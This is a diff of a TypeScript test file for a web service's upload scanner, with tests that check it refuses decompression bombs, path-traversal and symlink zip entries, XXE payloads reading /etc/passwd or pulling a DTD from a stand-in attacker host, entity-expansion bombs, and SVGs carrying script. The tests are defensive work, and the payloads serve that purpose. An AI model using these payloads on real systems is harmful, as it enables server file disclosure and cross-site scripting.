@@ -1,17 +1,61 @@
 /** What is in the files: bombs, polyglots, metadata, active content, archives. Each attack beside the same bytes as they came. */
-import { readFileSync } from 'node:fs'
-import { join } from 'node:path'
+import { mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
+import { dirname, join } from 'node:path'
+import { buffer } from 'node:stream/consumers'
 import { deflateSync } from 'node:zlib'
+import multipart from '@fastify/multipart'
+import Fastify from 'fastify'
 import sharp from 'sharp'
-import t from 'tap'
+import t, { type Test } from 'tap'
+import { fromBuffer, type Entry, type ZipFile } from 'yauzl'
 import type { UploadScanner } from '../../plugins/uploads/index.js'
-import { build, CODES, MIB } from './build.js'
-import { bombOf, CONTENT_TYPES, docx, DOCX_TYPE, IMAGE_TYPES, pdf, picture, relationship, relationships, stream, zipOf, type Format, type ZipEntry } from './forms.js'
+import { build, CODES, folderOf, MIB } from './build.js'
+import { bombOf, CONTENT_TYPES, docx, DOCX_TYPE, formOf, IMAGE_TYPES, pdf, picture, relationship, relationships, stream, zipOf, type Format, type Part, type ZipEntry } from './forms.js'
 
 const image = (format: Format, content: Buffer) => ({ filename: `a.${format}`, type: IMAGE_TYPES[format], content })
 const document = (content: Buffer) => ({ filename: 'a.pdf', type: 'application/pdf', content })
 const TEMPLATE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'
 const word = (content: Buffer) => ({ filename: 'a.docx', type: DOCX_TYPE, content })
+
+/** What a service gets of this file by the official plugin, wired as its documentation shows. */
+async function takenByOfficial (t: Test, part: Part): Promise<Buffer> {
+  const app = Fastify()
+  t.teardown(() => app.close())
+  await app.register(multipart, { limits: { fileSize: 10 * MIB } })
+  let taken: Buffer = Buffer.alloc(0)
+  app.post('/', async request => {
+    taken = await (await request.file())!.toBuffer()
+    return 'taken'
+  })
+  const { body, type } = formOf([part])
+  t.equal((await app.inject({ method: 'POST', url: '/', headers: { 'content-type': type }, payload: body })).statusCode, 200)
+  return taken
+}
+
+/** Each entry where its name says, and links as links: an archive as it is unpacked by who trusts it. */
+async function unpack (archive: Buffer, folder: string): Promise<number> {
+  const zip = await new Promise<ZipFile>((resolve, reject) => {
+    fromBuffer(archive, { lazyEntries: true, decodeStrings: false }, (error, opened) => { if (error === null) resolve(opened); else reject(error) })
+  })
+  let bytes = 0
+  for await (const entry of entriesOf(zip)) {
+    const content = await buffer(await new Promise<NodeJS.ReadableStream>((resolve, reject) => { zip.openReadStream(entry, (error, inflated) => { if (error === null) resolve(inflated); else reject(error) }) }))
+    const path = join(folder, String(entry.fileName))
+    mkdirSync(dirname(path), { recursive: true })
+    if (entry.externalFileAttributes >>> 16 === 0o120777) symlinkSync(String(content), path)
+    else writeFileSync(path, content)
+    bytes += content.length
+  }
+  return bytes
+}
+
+async function * entriesOf (zip: ZipFile): AsyncGenerator<Entry> {
+  const next = () => new Promise<Entry | null>((resolve, reject) => {
+    zip.once('entry', resolve).once('end', () => { resolve(null) }).once('error', reject)
+    zip.readEntry()
+  })
+  for (let entry = await next(); entry !== null; entry = await next()) yield entry
+}
 
 t.test('a decompression bomb is refused by its header, in no time and no memory [ASVS 5.2.6]', async t => {
   const { send, stored, handled } = await build(t)
@@ -229,6 +273,62 @@ t.test('an archive that is no document, or leaves its folder, or is one in part,
   t.equal(handled(), 1)
   t.equal(stored().length, 1)
   t.equal((await send('/document', word(docx([{ name: '[Content_Types].xml', content: '<Types/>' }])))).status, 201, 'one that says nothing of its parts')
+})
+
+t.test('negative control: the official plugin takes such archives, and who unpacks them has what they bring where they want it', async t => {
+  const outside = folderOf(t)
+  const folder = join(outside, 'deep/er')
+  writeFileSync(join(outside, 'secret'), 'root:x:0:0')
+  const unpacked = async (entry: ZipEntry) => unpack(await takenByOfficial(t, word(docx([entry]))), folder)
+  t.ok(await unpacked({ name: 'word/x.xml', content: Buffer.alloc(30 * MIB) }) > 30 * MIB, 'it inflates to more than three times what may be uploaded')
+  await unpack(await takenByOfficial(t, word(docx(Array.from({ length: 60 }, (_none, i) => ({ name: `many/${i}.xml` }))))), folder)
+  t.equal(readdirSync(join(folder, 'many')).length, 60, 'to as many files as it likes')
+  await unpacked({ name: '../../evil.xml', content: 'evil' })
+  t.equal(readFileSync(join(outside, 'evil.xml'), 'utf8'), 'evil', 'outside of its folder')
+  await unpacked({ name: 'word/link', content: join(outside, 'secret'), mode: 0o120777 })
+  t.equal(readFileSync(join(folder, 'word/link'), 'utf8'), 'root:x:0:0', 'and to links that lead to what is there')
+})
+
+t.test('attack: XML that names a file of the server is refused in whichever part of a document it stands [ASVS 1.5.1]', async t => {
+  const { send, stored, handled } = await build(t)
+  const external = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
+  for (const name of ['word/document.xml', '[Content_Types].xml', '_rels/.rels', 'word/_rels/document.xml.rels', 'word/more.xml', 'customXml/item1.xml']) {
+    for (const content of [
+      external, `<?xml version="1.0"?>\n${external}`, `\uFEFF${external}`, `<!-- x -->${external}`, external.replace('DOCTYPE', 'doctype'), external.replace('SYSTEM', 'PUBLIC "x"'),
+      '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>', '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/a.dtd"> %a;]><x/>', Buffer.from(`\uFEFF${external}`, 'utf16le'),
+      `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(100)}">${Array.from({ length: 8 }, (_none, i) => `<!ENTITY a${i} "${`&a${i === 0 ? '' : i - 1};`.repeat(10)}">`).join('')}]><x>&a7;</x>`,
+    ]) t.match(await send('/document', word(docx([{ name, content }]))), { status: 400, code: CODES.content }, `${name}: ${String(content).slice(0, 40)}`)
+  }
+  t.equal(handled(), 0)
+  t.strictSame(stored(), [])
+
+  const folder = folderOf(t)
+  await unpack(await takenByOfficial(t, word(docx([{ name: 'word/document.xml', content: external }]))), folder)
+  t.equal(readFileSync(join(folder, 'word/document.xml'), 'utf8'), external, 'the control: the official plugin takes it, and hands it as it is to whatever reads XML next')
+})
+
+t.test('attack: drawings with scripts are not taken, under no name and in no wrapping [ASVS 1.3.4]', async t => {
+  const { send, folder, stored, handled } = await build(t)
+  const script = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject></svg>'
+  const drawings = [script, `<?xml version="1.0"?>\n${script}`, `\uFEFF${script}`, `<!-- -->${script}`, `<!DOCTYPE svg>${script}`, deflateSync(script), Buffer.from(`\uFEFF${script}`, 'utf16le'), script.replaceAll('svg', 'x:svg')]
+  for (const content of drawings.map(text => Buffer.from(text as string))) {
+    for (const [filename, type] of [['a.svg', 'image/svg+xml'], ['a.svgz', 'image/svg+xml'], ['a.png', 'image/svg+xml'], ['a.svg', 'image/png'], ['a.png', 'image/png'], ['a.jpg', 'image/jpeg'], ['a.svg.png', 'image/png'], ['a.xml', 'text/xml']] as const) {
+      t.match(await send('/image', { filename, type, content }), { status: 415, code: CODES.type }, `${filename} ${type}`)
+    }
+  }
+  t.equal(handled(), 0)
+  t.strictSame(stored(), [])
+  const { body, status } = await send('/image', image('png', Buffer.concat([await picture('png'), Buffer.from(script)])))
+  t.equal(status, 201)
+  t.equal(body.type, 'image/png')
+  t.notOk(readFileSync(join(folder, body.name)).includes('<svg'), 'of one that is behind a picture nothing is left')
+
+  const taken = await takenByOfficial(t, { filename: 'a.svg', type: 'image/svg+xml', content: script })
+  const host = Fastify()
+  t.teardown(() => host.close())
+  host.get('/a.svg', async (_request, reply) => reply.type('image/svg+xml').send(taken))
+  const shown = await host.inject('/a.svg')
+  t.match([shown.body, shown.headers['content-security-policy'], shown.headers['content-disposition']], [script, undefined, undefined], 'the control: the official plugin takes it, and what is served of it runs')
 })
 
 /** The end tells where one directory is, and how long the other one, in front of which it stands. */
